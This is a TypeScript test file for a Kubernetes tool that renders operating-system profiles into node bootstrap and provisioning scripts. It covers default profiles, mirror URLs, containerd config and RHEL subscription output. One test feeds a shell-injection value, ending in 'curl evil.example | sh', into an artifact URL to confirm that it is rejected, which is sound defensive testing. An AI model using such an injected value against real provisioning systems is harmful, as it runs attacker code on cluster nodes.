// The embedded default profiles through the function: used when a MachineDeployment names one (or, with the
// webhook default on, names none), replaced by an input OSP of the same name, emitted on request, and fed
// from configurable artifact locations.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'yaml';
import { runOn, findItem } from '../support/runInProcess.ts';
import { UPSTREAM_OSM } from '../support/paths.ts';
import { ARTIFACT_DEFAULTS } from '../../src/profiles/artifactDefaults.ts';
import { embeddedProfiles } from '../../src/profiles/embeddedProfiles.ts';
import { functionConfig, machineDeployment, resourceList, userDataOf } from './support/profileRuns.ts';
import { checkConfigs } from './support/validators.ts';

const OSP_ANNOTATION = 'k8c.io/operating-system-profile';
const secret = (items: any[], md: string, type: string) =>
  findItem(items, 'Secret', `${md}-kube-system-${type}-config`);
const ospVersion = (items: any[], md: string) =>
  findItem(items, 'OperatingSystemConfig', `${md}-kube-system-config`).metadata.annotations['k8c.io/osp-version'];

function unannotated(name: string, osName: string, cloud: string, operatingSystemSpec?: Record<string, unknown>): any {
  const md = machineDeployment({
    profile: 'x',
    osName,
    cloud,
    kubelet: '1.35.1',
    ipFamily: 'IPv4',
    name,
    ...(operatingSystemSpec ? { operatingSystemSpec } : {}),
  }) as any;
  delete md.metadata.annotations[OSP_ANNOTATION];
  return md;
}

test('a MachineDeployment naming osp-ubuntu renders with the embedded profile', () => {
  const r = runOn(
    resourceList([
      machineDeployment({
        profile: 'osp-ubuntu',
        osName: 'ubuntu',
        cloud: 'aws',
        kubelet: '1.34.3',
        ipFamily: 'IPv4',
        name: 'workers',
      }),
    ]),
  );
  assert.equal(r.exitCode, 0, r.stderr);
  assert.equal(ospVersion(r.items, 'workers'), 'v1.0.0');
  const boot = userDataOf(secret(r.items, 'workers', 'bootstrap'));
  assert.match(
    boot.files.find((f) => f.path === '/opt/bin/bootstrap')!.content,
    / --cacert \/etc\/kubernetes\/pki\/ca\.crt /,
  );
  // Not emitted unless asked for.
  assert.ok(!r.items.some((i: any) => i.kind === 'OperatingSystemProfile'));
});

test('an OperatingSystemProfile of the same name in the inputs wins over the embedded one', () => {
  const upstream = parse(readFileSync(join(UPSTREAM_OSM, 'deploy/osps/default/osp-ubuntu.yaml'), 'utf8'));
  const r = runOn(
    resourceList([
      upstream,
      machineDeployment({
        profile: 'osp-ubuntu',
        osName: 'ubuntu',
        cloud: 'aws',
        kubelet: '1.34.3',
        ipFamily: 'IPv4',
        name: 'workers',
      }),
    ]),
  );
  assert.equal(r.exitCode, 0, r.stderr);
  assert.equal(ospVersion(r.items, 'workers'), upstream.spec.version);
  const boot = userDataOf(secret(r.items, 'workers', 'bootstrap'));
  assert.ok(!boot.files.some((f) => f.path === '/etc/osm/cloud-init-getter-token'));
});

test('webhook default: an unannotated MachineDeployment uses osp-<os> (osp-flatcar-cloud-init on Anexia with cloud-init)', () => {
  const mds = [
    unannotated('ubuntu-workers', 'ubuntu', 'hetzner'),
    unannotated('rocky-workers', 'rockylinux', 'openstack'),
    unannotated('flatcar-workers', 'flatcar', 'aws', { provisioningUtility: 'ignition' }),
    unannotated('anexia-workers', 'flatcar', 'anexia', { provisioningUtility: 'cloud-init' }),
  ];
  const off = runOn(resourceList(mds));
  assert.equal(off.exitCode, 0, off.stderr);
  assert.ok(!off.items.some((i: any) => i.kind === 'OperatingSystemConfig'), 'without the switch nothing is rendered');

  const on = runOn(resourceList(mds, functionConfig({ defaultProfiles: { defaultAnnotation: true } })));
  assert.equal(on.exitCode, 0, on.stderr);
  const used = (md: string) => findItem(on.items, 'OperatingSystemConfig', `${md}-kube-system-config`).spec;
  assert.equal(used('ubuntu-workers').osName, 'ubuntu');
  assert.equal(used('rocky-workers').osName, 'rockylinux');
  assert.equal(used('flatcar-workers').provisioningUtility, 'ignition');
  assert.equal(used('anexia-workers').provisioningUtility, 'cloud-init');
  assert.ok(
    userDataOf(secret(on.items, 'anexia-workers', 'bootstrap')).text.includes(
      'coreos:\n  units:\n  - name: "setup.service"',
    ),
  );
});

test('defaultProfiles.emit writes the embedded profiles into the output, in the configured namespace', () => {
  const r = runOn(resourceList([], functionConfig({ namespace: 'osm-system', defaultProfiles: { emit: true } })));
  assert.equal(r.exitCode, 0, r.stderr);
  const emitted = r.items.filter((i: any) => i.kind === 'OperatingSystemProfile');
  assert.deepEqual(
    emitted.map((p: any) => p.metadata.name).sort(),
    (embeddedProfiles() as any[]).map((p) => p.metadata.name).sort(),
  );
  for (const p of emitted) {
    assert.equal(p.metadata.namespace, 'osm-system');
    const embedded = (embeddedProfiles() as any[]).find((e) => e.metadata.name === p.metadata.name);
    assert.deepEqual(p.spec, embedded.spec);
  }
});

test('with every artifact location overridden, every download comes from the mirror', () => {
  const mirror = Object.fromEntries(Object.keys(ARTIFACT_DEFAULTS).map((k) => [k, `https://mirror.example:8443/${k}`]));
  const mds = [
    machineDeployment({
      profile: 'osp-ubuntu',
      osName: 'ubuntu',
      cloud: 'aws',
      kubelet: '1.36.0',
      ipFamily: 'IPv4',
      name: 'ubuntu',
    }),
    machineDeployment({
      profile: 'osp-rhel',
      osName: 'rhel',
      cloud: 'aws',
      kubelet: '1.36.0',
      ipFamily: 'IPv4',
      name: 'rhel',
    }),
    machineDeployment({
      profile: 'osp-flatcar',
      osName: 'flatcar',
      cloud: 'aws',
      kubelet: '1.36.0',
      ipFamily: 'IPv4',
      name: 'flatcar',
    }),
  ];
  const r = runOn(resourceList(mds, functionConfig({ artifacts: mirror })));
  assert.equal(r.exitCode, 0, r.stderr);
  const defaultHosts = Object.values(ARTIFACT_DEFAULTS).map((u) => new URL(u).host);
  for (const md of ['ubuntu', 'rhel', 'flatcar']) {
    const files = userDataOf(secret(r.items, md, 'provisioning')).files;
    const text = files.map((f) => f.content).join('\n');
    for (const host of defaultHosts) assert.ok(!text.includes(host), `${md} still names ${host}`);
    const install = files.find((f) => f.path === '/opt/bin/install-kubernetes-binaries')!.content;
    assert.match(install, /^kube_base='https:\/\/mirror\.example:8443\/kubernetes'$/m);
    assert.match(install, /^cni_base='https:\/\/mirror\.example:8443\/cni'$/m);
    assert.match(install, /^crictl_base='https:\/\/mirror\.example:8443\/crictl'$/m);
  }
  const ubuntuRuntime = userDataOf(secret(r.items, 'ubuntu', 'provisioning')).files.find(
    (f) => f.path === '/opt/bin/install-container-runtime',
  )!.content;
  assert.match(ubuntuRuntime, /^repository='https:\/\/mirror\.example:8443\/containerdAptRepo'$/m);
  const rhelRuntime = userDataOf(secret(r.items, 'rhel', 'provisioning')).files.find(
    (f) => f.path === '/opt/bin/install-container-runtime',
  )!.content;
  assert.match(rhelRuntime, /^repository='https:\/\/mirror\.example:8443\/containerdYumRepo'$/m);
});

test('an artifact URL that is not a plain URL is refused with an error naming the key', () => {
  const md = machineDeployment({
    profile: 'osp-ubuntu',
    osName: 'ubuntu',
    cloud: 'aws',
    kubelet: '1.36.0',
    ipFamily: 'IPv4',
    name: 'ubuntu',
  });
  const r = runOn(
    resourceList(
      [md],
      functionConfig({ artifacts: { kubernetes: "https://mirror.example/k8s'; curl evil.example | sh; '" } }),
    ),
  );
  assert.notEqual(r.exitCode, 0);
  const error = r.results.find((x: any) => x.severity === 'error');
  // Refused by the choke point for script values (scriptValues.ts) before the profile's own check runs.
  assert.match(error.message, /spec\.artifacts\.kubernetes may only contain letters, digits/);
  assert.equal(error.field?.path, 'spec.artifacts.kubernetes');
  assert.ok(!r.items.some((i: any) => i.kind === 'Secret' && i.metadata.name.startsWith('ubuntu-')));
});

test("Amazon Linux 2 gets containerd 1.7's version 2 config, with the pause image, device ownership and registry credentials", () => {
  const credentials = {
    apiVersion: 'v1',
    kind: 'Secret',
    type: 'Opaque',
    metadata: {
      name: 'registry-credentials',
      namespace: 'kube-system',
      annotations: { 'config.kubernetes.io/local-config': 'true' },
    },
    stringData: { 'registry.example:5000': JSON.stringify({ username: 'puller', password: 's3cr"et' }) },
  };
  const md = machineDeployment({
    profile: 'osp-amzn2',
    osName: 'amzn2',
    cloud: 'aws',
    kubelet: '1.35.1',
    ipFamily: 'IPv4',
    name: 'al2',
  });
  const config = functionConfig({
    pauseImage: 'registry.example:5000/pause:3.10',
    deviceOwnershipFromSecurityContext: true,
    nodeRegistryCredentialsSecret: 'kube-system/registry-credentials',
  });
  const r = runOn(resourceList([md, credentials], config));
  assert.equal(r.exitCode, 0, r.stderr);
  const toml = userDataOf(secret(r.items, 'al2', 'provisioning')).files.find(
    (f) => f.path === '/etc/containerd/config.toml',
  )!.content;
  assert.equal(
    toml,
    [
      'version = 2',
      '',
      '[metrics]',
      'address = "127.0.0.1:1338"',
      '',
      '[plugins]',
      '[plugins."io.containerd.grpc.v1.cri"]',
      'device_ownership_from_security_context = true',
      'sandbox_image = "registry.example:5000/pause:3.10"',
      '[plugins."io.containerd.grpc.v1.cri".containerd]',
      'discard_unpacked_layers = false',
      '[plugins."io.containerd.grpc.v1.cri".containerd.runtimes]',
      '[plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc]',
      'runtime_type = "io.containerd.runc.v2"',
      '[plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc.options]',
      'SystemdCgroup = true',
      '[plugins."io.containerd.grpc.v1.cri".cni]',
      'bin_dir = "/opt/cni/bin"',
      'conf_dir = "/etc/cni/net.d"',
      '[plugins."io.containerd.grpc.v1.cri".registry]',
      'config_path = "/etc/containerd/certs.d"',
      '[plugins."io.containerd.grpc.v1.cri".registry.configs."registry.example:5000"]',
      '[plugins."io.containerd.grpc.v1.cri".registry.configs."registry.example:5000".auth]',
      'username = "puller"',
      'password = "s3cr\\"et"',
    ].join('\n'),
  );
});

test("osp-rhel without subscription data renders a valid cloud-config with no rh_subscription; upstream osp-rhel keeps OSM's empty module", async () => {
  const md = machineDeployment({
    profile: 'osp-rhel',
    osName: 'rhel',
    cloud: 'aws',
    kubelet: '1.35.1',
    ipFamily: 'IPv4',
    name: 'workers',
    operatingSystemSpec: {},
  });
  const r = runOn(resourceList([md]));
  assert.equal(r.exitCode, 0, r.stderr);
  const dir = mkdtempSync(join(tmpdir(), 'osm-krm-rhel-'));
  const paths = ['bootstrap', 'provisioning'].map((type) => {
    const ud = userDataOf(secret(r.items, 'workers', type));
    assert.ok(!ud.text.includes('rh_subscription'), type);
    const path = join(dir, `${type}.yaml`);
    writeFileSync(path, ud.text);
    return path;
  });
  assert.deepEqual(await checkConfigs(paths, []), []);
  // The OSC shows the same: no module to inject.
  const osc = findItem(r.items, 'OperatingSystemConfig', 'workers-kube-system-config');
  assert.equal(osc.spec.bootstrapConfig.modules.rh_subscription, undefined);

  // Given subscription data, the module is there.
  const given = machineDeployment({
    profile: 'osp-rhel',
    osName: 'rhel',
    cloud: 'aws',
    kubelet: '1.35.1',
    ipFamily: 'IPv4',
    name: 'workers',
    operatingSystemSpec: { rhelSubscriptionManagerUser: 'rhel-user', rhelSubscriptionManagerPassword: 'rhel-pass' },
  });
  const g = runOn(resourceList([given]));
  assert.match(
    userDataOf(secret(g.items, 'workers', 'bootstrap')).text,
    /\nrh_subscription:\n {4}auto-attach: false\n {4}password: rhel-pass\n {4}username: rhel-user\n/,
  );

  // Upstream's profile keeps upstream's output: the module with empty values, as OSM writes it.
  const upstream = parse(readFileSync(join(UPSTREAM_OSM, 'deploy/osps/default/osp-rhel.yaml'), 'utf8'));
  const u = runOn(resourceList([upstream, md]));
  assert.equal(u.exitCode, 0, u.stderr);
  assert.match(
    userDataOf(secret(u.items, 'workers', 'bootstrap')).text,
    /\nrh_subscription:\n {4}auto-attach: false\n {4}password: \n {4}username: \n/,
  );
});
